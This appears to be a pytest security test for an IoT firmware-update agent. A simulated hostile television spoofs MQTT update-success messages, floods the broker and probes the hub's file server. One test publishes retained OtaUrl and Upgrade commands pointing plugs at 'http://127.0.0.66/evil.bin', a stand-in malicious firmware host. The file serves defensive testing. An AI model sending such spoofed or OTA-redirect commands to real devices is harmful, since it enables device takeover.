"""A hostile television beside updates of others: none ends as done that is not, and none is stopped by it.

T1 and T2, at the worst moment: it speaks as the devices do while they are updated, leaves things in the
broker, floods it, says again what was said before, and keeps the hub's file server busy. What it may say and
hear is for the broker's rules to decide. Without any, the devices' own words stand against its words.
"""

import json
import subprocess
import threading
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import contextmanager
from pathlib import Path
from typing import Final

import pytest
from pydantic import JsonValue

from edgeagent.adapters.lan_files.connections import MOST_OF_ONE
from edgeagent.contracts.receipt import Outcome
from edgeagent.issuer.commands import SignedCommand
from firmware_sim.fields import Json
from firmware_sim.journal import What
from tests.attacks.television import NAME, PASSWORD, Television
from tests.firmware_sim.images import a_tasmota_image
from tests.firmware_sim.test_brown_outs import a_display_image
from tests.support.agents_updates import Released, UpdatingVenue
from tests.support.brokers import wait_until
from tests.support.stores import query

pytestmark = [
    pytest.mark.slow,
    pytest.mark.requirement("F3", "F4", "M6"),
    pytest.mark.threat("T1", "T2", "T3"),
]

TV: Final = "television-02badbadbad0"
WELL, TORN, GONE = "02A1B2000001", "02A1B2000002", "02A1B2000003"
SCREEN: Final = "display-02a1b2000004"
NEW: Final = Released(
    name="plug-14.2.0", image=a_tasmota_image(), family="tasmota", version="14.2.0(release-tasmota)"
)
NEW_SCREEN: Final = Released(
    name="display-2.0.0", image=a_display_image("2.0.0"), family="url-update", version="2.0.0"
)
MEANS: Final[dict[str, JsonValue]] = {"idle": True, "many": 60, "address": "127.0.0.66"}
DEEDS: Final = range(1, 10)
"""Its buttons."""
THEFTS: Final = range(6, 10)
"""Those for file servers."""
TORN_FAULT: Final[dict[str, JsonValue]] = {"fault": "brown_out", "appliance": TORN, "nth": 3}
SLOW_FAULT: Final[dict[str, JsonValue]] = {
    "fault": "stall", "appliance": WELL, "percent": 40, "lasting": "3s"
}  # fmt: skip
GONE_FAULT: Final[dict[str, JsonValue]] = {"fault": "vanish", "appliance": GONE, "percent": 40}


def plug(device: str) -> dict[str, JsonValue]:
    return {"model": "tasmota-plug", "mac": device}


def lies(device: str) -> Iterator[tuple[str, bytes, bool]]:
    """What one says that has been updated well: topic, payload, whether it is left in the broker."""
    if device == SCREEN:
        for percent in (*range(0, 100, 7), 100, 3):
            progress = {"id": 1, "in_progress": True, "update_percentage": percent, "error": None}
            yield f"display/{device}/update", json.dumps(progress).encode(), percent == 100
        yield f"display/{device}/state", b'{"power":true,"brightness":80,"version":"2.0.0"}', True
        return
    topic = f"tasmota_{device[6:]}"
    version = json.dumps({"StatusFWR": {"Version": NEW.version, "Hardware": "ESP8266EX"}}).encode()
    yield f"stat/{topic}/UPGRADE", b'{"Upgrade":"Version 14.1.0 from http://127.0.0.1/"}', False
    yield f"stat/{topic}/UPGRADE", b'{"Upgrade":"Successful. Restarting"}', True
    yield f"stat/{topic}/STATUS2", version, True
    yield f"stat/{topic}/STATUS2", version, False
    info = json.dumps({"Info1": {"Module": "x", "Version": NEW.version}}).encode()
    yield f"tele/{topic}/INFO1", info, False


@contextmanager
def over_and_over(does: Callable[[], None], every: float) -> Iterator[None]:
    """While it is entered something is done again and again."""
    over = threading.Event()

    def go_on() -> None:
        while not over.wait(every):
            does()

    doing = threading.Thread(target=go_on)
    doing.start()
    try:
        yield
    finally:
        over.set()
        doing.join()


@contextmanager
def lying(television: Television, *devices: str) -> Iterator[None]:
    """While it is entered the television says of these, again and again, that all went well."""

    def lie() -> None:
        for device in devices:
            for topic, payload, retain in lies(device):
                television.says(topic, payload, retain=retain)

    with over_and_over(lie, 0.2):
        yield


@contextmanager
def stealing(venue: UpdatingVenue) -> Iterator[None]:
    """While it is entered the television does all that it can to the file servers that it hears of."""

    def steal() -> None:
        for button in THEFTS:
            venue.fleet.does("press", TV, button=button)

    with over_and_over(steal, 0.5):
        yield


def installs_asked(venue: UpdatingVenue, device: str) -> int:
    """How often a plug was told to install."""
    return sum(
        line.what is What.HEARD
        and line.appliance == device
        and str(line.details.get("topic", "")).endswith("/Upgrade")
        for line in venue.journal()
    )


def test_without_rules_in_the_broker_no_lie_makes_an_update_done_that_failed(tmp_path: Path) -> None:
    """A plug and a display lose their power in the middle, a plug for good; all are said to be well."""
    screen: dict[str, JsonValue] = {"model": "display", "mac": "02A1B2000004"}
    thief: dict[str, JsonValue] = {"model": "hostile-television", "mac": "02BADBADBAD0", "settings": MEANS}
    appliances = [*(plug(device) for device in (WELL, TORN, GONE)), screen, thief]
    faults = [SLOW_FAULT, TORN_FAULT, GONE_FAULT, {**TORN_FAULT, "appliance": SCREEN}]
    images = [NEW, NEW_SCREEN]
    with (
        UpdatingVenue(tmp_path, appliances=appliances, images=images, faults=faults, patience="8s") as venue,
        Television(venue.broker) as television,
    ):
        venue.opens(WELL, TORN, GONE, SCREEN)
        with stealing(venue):
            orders = {device: venue.installs(device, NEW.name) for device in (WELL, GONE)}
            orders |= {SCREEN: venue.installs(SCREEN, NEW_SCREEN.name), TORN: venue.installs(TORN, NEW.name)}
            # Before it is set off the lie would be that nothing has to be done.
            wait_until(lambda: all("triggered" in venue.stages(each) for each in orders.values()), "updates")
            with lying(television, *orders):
                ends = {device: venue.end_of(order).outcome for device, order in orders.items()}

        # Lies about one that lives can cost it its good end (docs/security.md), and no more.
        assert ends[WELL] in {Outcome.SUCCEEDED, Outcome.ROLLBACK_FAILED}
        assert Outcome.SUCCEEDED not in {ends[TORN], ends[GONE], ends[SCREEN]}, ends
        assert [installs_asked(venue, device) for device in (WELL, TORN, GONE)] == [1, 1, 1]
        # It has heard where the files lie, was there, and was turned away where a device tells its address.
        thefts = [line.details for line in venue.journal() if line.what is What.ABUSED]
        statuses = {answer.partition(" ")[0] for deed in thefts for answer in answers(deed)}
        assert "404" in statuses
        assert "500" not in statuses
        assert venue.agent.stop() == 0
        assert venue.audit_break() is None


@pytest.fixture
def guarded(tmp_path: Path) -> Iterator[UpdatingVenue]:
    """A venue whose broker lets the television have its own topics and no others."""
    names, rules = tmp_path / "names", tmp_path / "rules"
    subprocess.run(["mosquitto_passwd", "-b", "-c", str(names), NAME, PASSWORD], check=True)
    rules.write_text(f"topic readwrite #\nuser {NAME}\ntopic readwrite television/#\n")
    for file in (names, rules):
        file.chmod(0o600)
    television: dict[str, JsonValue] = {
        "model": "hostile-television",
        "mac": "02BADBADBAD0",
        "username": NAME,
        "password": PASSWORD,
        "settings": MEANS,
    }
    options = (f"password_file {names}", f"acl_file {rules}")
    with UpdatingVenue(
        tmp_path,
        appliances=[plug(WELL), plug(TORN), television],
        images=[NEW],
        faults=[TORN_FAULT, SLOW_FAULT],
        broker_options=options,
    ) as made:
        made.opens(WELL, TORN)
        yield made


@pytest.mark.threat("T37")
def test_behind_the_brokers_rules_it_neither_lies_nor_keeps_the_files_from_anybody(
    guarded: UpdatingVenue,
) -> None:
    """It knows where the hub serves files, and guesses."""
    guess = f"http://127.0.0.1:{guarded.files_port}/{'A' * 22}/firmware.bin"
    with Television(guarded.broker, named=True) as infected:
        infected.says("television/rumour", json.dumps({"url": guess}).encode())
        wait_until(lambda: rumours(guarded) == 1, "the television to hear of the server")
        with lying(infected, WELL, TORN):
            for device in (WELL, TORN):
                for command, data in (("OtaUrl", b"http://127.0.0.66/evil.bin"), ("Upgrade", b"1")):
                    infected.says(f"cmnd/tasmota_{device[6:]}/{command}", data, retain=True)
            orders = {device: guarded.installs(device, NEW.name) for device in (WELL, TORN)}
            rounds = 0
            while not all(is_over(guarded, order) for order in orders.values()):
                for button in DEEDS:
                    guarded.fleet.does("press", TV, button=button)
                rounds += 1
                wait_until(lambda: crowds(guarded) >= rounds, "the television to have done its worst")  # noqa: B023 - awaited within the round
        ends = {device: guarded.end_of(order).outcome for device, order in orders.items()}

    assert ends == {WELL: Outcome.SUCCEEDED, TORN: Outcome.FAILED}
    assert [installs_asked(guarded, device) for device in ends] == [1, 1]
    assert {topic for topic, _ in infected.heard} == {"television/rumour", "television", "television/lwt"}
    deeds = [line.details for line in guarded.journal() if line.what is What.ABUSED]
    assert {"wander", "crowd", "ranges", "dawdle", "flood"} <= {deed["deed"] for deed in deeds}
    told = [answer for deed in deeds for answer in answers(deed)]
    statuses = {answer.partition(" ")[0] for answer in told}
    assert "404" in statuses
    assert not statuses & {"200", "206", "500"}
    assert max(int(answer.removeprefix("stood ")) for answer in told if "stood" in answer) <= MOST_OF_ONE
    assert guarded.agent.stop() == 0
    turned_away = "SELECT detail ->> 'addresses' FROM audit WHERE kind = 'artifact_not_served'"
    assert "127.0.0.66" in str(query(guarded.agent.database, turned_away))
    assert guarded.audit_break() is None


def answers(deed: Mapping[str, Json]) -> list[str]:
    """What a server answered to one of its deeds."""
    found = deed.get("answers")
    return [str(answer) for answer in found] if isinstance(found, Sequence) else []


def rumours(venue: UpdatingVenue) -> int:
    """How often the television has heard of the server."""
    return sum(
        line.what is What.HEARD and line.details.get("topic") == "television/rumour"
        for line in venue.journal()
    )


def crowds(venue: UpdatingVenue) -> int:
    """How often it has crowded the server."""
    return sum(line.what is What.ABUSED and line.details.get("deed") == "crowd" for line in venue.journal())


def is_over(venue: UpdatingVenue, order: SignedCommand) -> bool:
    """Whether a command has come to its end at the cloud."""
    return venue.cloud.command(order.command.id).state.is_over
